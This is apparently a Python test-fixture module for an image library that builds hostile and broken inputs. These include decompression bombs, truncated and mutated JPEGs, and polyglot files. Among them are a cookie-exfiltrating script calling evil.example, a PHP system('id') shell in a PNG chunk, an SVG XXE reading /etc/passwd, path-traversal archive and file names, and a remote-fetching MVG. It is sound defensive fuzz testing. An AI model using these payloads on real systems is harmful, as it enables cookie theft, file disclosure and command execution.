"""Pictures that mean harm, or are broken: each with the kind of trouble it is."""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator

from tests.photographs import photograph
from tests.workshop.conftest import ODD_FILES, png
from tests.workshop.test_odd_files import BOMBS, mutated

from sameface.pictures import Want, render

Hostile = tuple[str, str, bytes]
"""What kind of trouble, a name, and the bytes."""

_MUTATED = 100


def everything() -> Iterator[Hostile]:
    """All there is: more than twelve hundred."""
    yield from odd_files()
    yield from made()


def odd_files() -> Iterator[Hostile]:
    """What decoders have stumbled over, as Pillow and pi-heif keep it; each folder is a kind."""
    for path in sorted(ODD_FILES.rglob("*")):
        if path.is_file():
            yield path.parent.name, path.name, path.read_bytes()


def made() -> Iterator[Hostile]:
    """What is made here: bombs, polyglots, files cut off and altered, and no pictures at all."""
    for kind in KINDS:
        yield from of_kind(kind)


def of_kind(kind: str) -> Iterator[Hostile]:
    """Those of one of KINDS."""
    for name, data in KINDS[kind]().items():
        yield kind, name, data


def _photo() -> bytes:
    return render(photograph("hopper").read_bytes(), Want(200)).data


def _bombs() -> dict[str, bytes]:
    text = b"Comment\0\0" + zlib.compress(bytes(50_000_000), 9)
    made_so = {name: bomb() for name, bomb in BOMBS.items()}
    return {"a comment of 50 MB.png": png(64, 64, (b"zTXt", text))} | made_so


def _cut_off() -> dict[str, bytes]:
    photo = _photo()
    parts = (0, 1, 2, 20, len(photo) // 2, len(photo) - 2)
    return {f"the first {part} bytes.jpg": photo[:part] for part in parts}


def _altered() -> dict[str, bytes]:
    photo, dice = _photo(), random.Random(7)
    return {f"{number}.jpg": mutated(photo, dice) for number in range(_MUTATED)}


def _polyglots() -> dict[str, bytes]:
    """A picture to one program, and something else to another."""
    photo = _photo()
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("../../evil.py", "import os")
    script = b"<script>fetch('//evil.example/'+document.cookie)</script>"
    comment = b"\xff\xfe" + (len(script) + 2).to_bytes(2, "big") + script
    return {
        "with an archive behind it.jpg": photo + packed.getvalue(),
        "with a script in a comment.jpg": photo[:2] + comment + photo[2:],
        "with a page behind it.jpg": photo + b"<html>" + script,
        "a gif that is a script.gif": b"GIF89a/*" + bytes(200) + b"*/=1;alert(1)//",
        "with code in a chunk.png": png(64, 64, (b"tEXt", b"Comment\0<?php system('id'); ?>")),
        "a page that begins as one.jpg": b"\xff\xd8\xff\xe0<html>" + script,
    }


_NO_PICTURES = {
    "../../../etc/passwd": b"root:x:0:0:root:/root:/bin/sh\n",
    "<img src=x onerror=alert(1)>.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>',
    "entities.svg": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>',
    "paper.pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n",
    "program.exe.jpg": b"MZ" + bytes(500),
    "push graphic-context.mvg": b"push graphic-context\nimage over 0,0 0,0 'https://e.example/'",
    "zeros.jpg": bytes(5000),
    "noise.webp": random.Random(1).randbytes(5000),
}

KINDS: dict[str, Callable[[], dict[str, bytes]]] = {
    "bomb": _bombs,
    "polyglot": _polyglots,
    "cut off": _cut_off,
    "altered": _altered,
    "no picture": lambda: _NO_PICTURES,
}
"""The kinds of what is made here, and how."""
